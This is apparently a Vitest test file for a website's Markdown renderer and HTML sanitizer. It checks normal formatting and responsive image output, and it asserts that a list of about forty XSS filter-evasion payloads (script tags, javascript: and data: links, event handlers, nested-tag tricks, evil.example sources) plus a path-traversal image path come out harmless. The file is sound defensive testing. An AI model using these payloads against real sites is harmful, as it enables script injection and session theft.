import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeBodyHtml, uploadedImageHashes, withoutScripts } from "./markdown.ts";

// The article body's Markdown → HTML: what an author can write, and what no Markdown can
// smuggle into a public page (payloads in the style of the OWASP XSS filter-evasion sheet).

const HASH = "0123456789abcdef0123456789abcdef";
const variants = (widths: number[], ratio = 0.75) =>
  widths.flatMap((width) =>
    (["webp", "avif"] as const).map((format) => ({
      name: `${HASH}-${width}.${format}`,
      width,
      height: Math.round(width * ratio),
    })),
  );

describe("renderMarkdown", () => {
  it("renders headings one level down (the title is the h1), lists, quotes, tables, code, links", () => {
    const html = renderMarkdown(
      [
        "# Section",
        "## Sub-section",
        "### Detail",
        "#### Deeper",
        "Some **bold**, _emphasis_ and ~~struck~~ text.",
        "- one\n- two",
        "1. first\n2. second",
        "> quoted",
        "| a | b |\n|---|--:|\n| 1 | 2 |",
        "```\nconst x = 1 < 2;\n```",
        "Inline `code`, a [page](/quote), [mail](mailto:hi@example.com) and https://example.com.",
        "---",
      ].join("\n\n"),
    );
    expect(html).toContain("<h2>Section</h2>");
    expect(html).toContain("<h3>Sub-section</h3>");
    expect(html).toContain("<h4>Detail</h4>");
    expect(html).toContain("<h4>Deeper</h4>");
    expect(html).not.toContain("<h1");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>emphasis</em>");
    expect(html).toContain("<del>struck</del>");
    expect(html).toMatch(/<ul>\s*<li>one<\/li>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>/);
    expect(html).toMatch(/<blockquote>\s*<p>quoted<\/p>/);
    expect(html).toMatch(/<table>\s*<thead>\s*<tr>\s*<th>a<\/th>/);
    expect(html).toContain("<td>2</td>");
    expect(html).toContain("<pre><code>const x = 1 &lt; 2;\n</code></pre>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain('<a href="/quote" rel="noopener">page</a>');
    expect(html).toContain('<a href="mailto:hi@example.com" rel="noopener">mail</a>');
    expect(html).toContain('<a href="https://example.com" rel="noopener noreferrer">https://example.com</a>');
    expect(html).toContain("<hr />");
  });

  it("shows an uploaded image as a <picture> with AVIF and WebP srcsets, its size, lazy", () => {
    const images = new Map([[HASH, variants([800, 1600])]]);
    const html = renderMarkdown(`![A chart of monthly leads](/images/uploads/${HASH}-1600.webp)`, images);
    expect(html).toMatch(
      /^<p><picture><source type="image\/avif" [^>]*\/><source type="image\/webp" [^>]*\/><img [^>]*\/><\/picture><\/p>$/,
    );
    expect(html).toContain(`srcset="/images/uploads/${HASH}-800.avif 800w, /images/uploads/${HASH}-1600.avif 1600w"`);
    expect(html).toContain(`srcset="/images/uploads/${HASH}-800.webp 800w, /images/uploads/${HASH}-1600.webp 1600w"`);
    expect(html).toMatch(/<img [^>]*src="\/images\/uploads\/0123456789abcdef0123456789abcdef-1600\.webp"/);
    for (const attribute of [
      'alt="A chart of monthly leads"',
      'width="1600"',
      'height="1200"',
      'loading="lazy"',
      'decoding="async"',
    ]) {
      expect(html).toContain(attribute);
    }
    expect(html).not.toContain("</source>");
  });

  it("escapes an image's alt text and keeps a small upload's single width", () => {
    const images = new Map([[HASH, variants([640])]]);
    const html = renderMarkdown(`![x" onerror="alert(1)](/images/uploads/${HASH}-640.webp)`, images);
    expect(html).toContain(`srcset="/images/uploads/${HASH}-640.webp 640w"`);
    expect(html).toContain('width="640"');
    expect(html).toContain('alt="x&quot; onerror=&quot;alert(1)"');
  });

  it("keeps our own site images, drops images from anywhere else", () => {
    const html = renderMarkdown(
      "![ours](/images/blog/1.webp) ![theirs](https://evil.example/x.png) ![up](/images/../../etc/passwd.png)",
    );
    expect(html).toContain('src="/images/blog/1.webp"');
    expect(html).not.toContain("evil.example");
    expect(html).not.toContain("passwd");
    expect(
      uploadedImageHashes(`![a](/images/uploads/${HASH}-800.webp) ![b](/images/uploads/${HASH}-1600.avif)`),
    ).toEqual([HASH]);
  });
});

// Each payload must come out without anything that runs: no script or style element, no
// event handler, no javascript:/data:/vbscript: address, no frame, object or form.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "[click](&#106;avascript:alert(1))",
  "![x](javascript:alert(1))",
  '<a href="//evil.example" onclick="alert(1)">x</a>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  "<iframe src=\"javascript:alert('XSS');\"></iframe>",
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  '<p style="behavior: url(xss.htc)">x</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<form action=https://evil.example><input name=q><button>go</button></form>",
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD onmouseover="alert(1)">x</TD></TABLE>',
  '<picture><source srcset="javascript:alert(1)"><img src="/images/a.webp" srcset="https://evil.example/a.webp 1x"></picture>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  '<a href="https://example.com" target="_blank" rel="opener">x</a>',
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "```\n</code></pre><script>alert(1)</script>\n```",
];

describe("renderMarkdown with hostile input", () => {
  it.each(HOSTILE)("makes %s harmless", (payload) => {
    const html = renderMarkdown(`Before\n\n${payload}\n\nAfter`);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<style/i);
    expect(html).not.toMatch(/<(iframe|object|embed|form|input|button|svg|math|meta|link|base|body|div|template)\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/\s(style|target|background)\s*=/i);
    expect(html).not.toMatch(/(href|src|srcset)="\s*(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/(href|src|srcset)="[^"]*evil\.example/i);
    expect(html).toContain("After");
  });

  it("gives every link rel=noopener and never target", () => {
    const html = sanitizeBodyHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>');
    expect(html).toBe('<a href="https://example.com" rel="noopener noreferrer">x</a>');
  });
});

describe("withoutScripts (the Markdown as stored)", () => {
  it("removes script and style blocks, even nested to reassemble", () => {
    expect(withoutScripts("a <script>alert(1)</script> b")).toBe("a  b");
    expect(withoutScripts("a <scr<script>x</script>ipt>alert(1)</script> b")).not.toMatch(/<script/i);
    expect(withoutScripts("<STYLE>p{}</STYLE>text<script src=x>")).toBe("text");
    expect(withoutScripts("<script>never closed")).toBe("never closed");
  });

  it("removes every tag from 200 KB of unclosed or nested tags (npm run bench -- content times it)", () => {
    for (const hostile of [
      "<script>".repeat(25_000),
      "<script".repeat(28_000),
      "<style><style>".repeat(14_000),
      `${"<scr".repeat(20_000)}<script></script>${"ipt>".repeat(20_000)}`,
    ]) {
      expect(withoutScripts(hostile)).not.toMatch(/<(script|style)/i);
    }
  });

  it("keeps code that talks about scripts", () => {
    const markdown =
      'Add `<script async src="/t.js"></script>` to the head:\n\n```html\n<script>init()</script>\n```\n';
    expect(withoutScripts(markdown)).toBe(markdown);
  });
});
